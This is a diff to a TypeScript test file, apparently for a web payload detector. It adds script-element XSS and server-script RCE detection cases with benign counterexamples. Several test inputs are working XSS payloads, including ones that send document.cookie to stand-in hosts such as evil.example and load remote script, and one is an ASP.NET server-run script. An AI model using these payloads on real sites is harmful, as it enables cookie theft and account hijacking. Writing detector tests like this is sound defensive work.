@@ -807,6 +807,30 @@ const NOT_NESTED_JSON: Case[] = [
   ["body:json", JSON.stringify({ arguments: JSON.stringify({ to: "a@example.com", subject: "Re: your order", body: "Thanks!\nAnn" }) })],
 ];
 
+// A script element that loads code or whose code calls, assigns or runs a tagged template
+// (scriptelement.ts): xss, or rce for one the server runs.
+const SCRIPT_ELEMENT: Case[] = [
+  ["query", "year=2021%3C/title%3E%3Cscript%3Ealert(%27x%27)%3C/script%3E"],
+  ["query", "q=<script>alert('xss')</script>"],
+  ["query", "q=<ScRiPt >prompt`1`</sCrIpT>"],
+  ["header:User-Agent", "<script>alert(1)</script> Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"],
+  ["body:json", JSON.stringify({ bio: "hi</textarea><script>location='//evil.example/?c='+document.cookie</script>" })],
+  ["query", "q=<script/src=//evil.example/x.js></script>"],
+  ["body:form", "c=<script type=text/javascript>\n// load\nnew Image().src='//x.example/'+document.cookie</script>"],
+];
+const NOT_SCRIPT_ELEMENT: Case[] = [
+  // A page's own: a comment, JSON-LD, a template, an empty element, a word that starts with `script`.
+  ["body:json", JSON.stringify({ pageContent: "<!DOCTYPE html>\n<html><body><div id=\"app\"></div>\n<script>\n  // Preview page (for testing)\n</script></body></html>" })],
+  ["body:json", JSON.stringify({ head: '<script type="application/ld+json">{"@context": "https://schema.org", "url": "https://example.com/?a=b"}</script>' })],
+  ["body:json", JSON.stringify({ tpl: '<script type="text/x-template" id="row"><td>{{ name }}</td></script>' })],
+  ["query", "q=<script></script>"],
+  ["query", "q=<scripts>alert(1)"],
+  ["query", "q=how to use the script tag"],
+];
+const SERVER_SCRIPT: Case[] = [
+  ["body:xml", '<%@ Page Language="C#" %>\n<script Language="c#" runat="server">\nvoid Page_Load(object sender, EventArgs e)\n{\n    Response.Write("x");\n}\n</script>'],
+];
+
 describeVerdicts("%s payload verdicts", () => core, [
   ["in a JSON document in a JSON string", "crlf|rce", NESTED_JSON, NOT_NESTED_JSON],
   ["remote-include", "rce", REMOTE_INCLUDE, NOT_REMOTE_INCLUDE],
@@ -823,6 +847,8 @@ describeVerdicts("%s payload verdicts", () => core, [
   ["session-fixation", "xss", SESSION_FIXATION, NOT_SESSION_FIXATION],
   ["ldap-filter", "ldapi", LDAP_FILTER, NOT_LDAP_FILTER],
   ["event-handler", "xss", EVENT_HANDLER, NOT_EVENT_HANDLER],
+  ["script-element", "xss", SCRIPT_ELEMENT, NOT_SCRIPT_ELEMENT],
+  ["server-script-element", "rce", SERVER_SCRIPT, []],
   ["php-superglobal", "rce", PHP_SUPERGLOBAL, NOT_PHP_SUPERGLOBAL],
   ["command-injection", "rce", COMMAND_INJECTION, NOT_COMMAND_INJECTION],
   ["command-after-sentence", "rce", COMMAND_AFTER_SENTENCE, NOT_COMMAND_AFTER_SENTENCE],
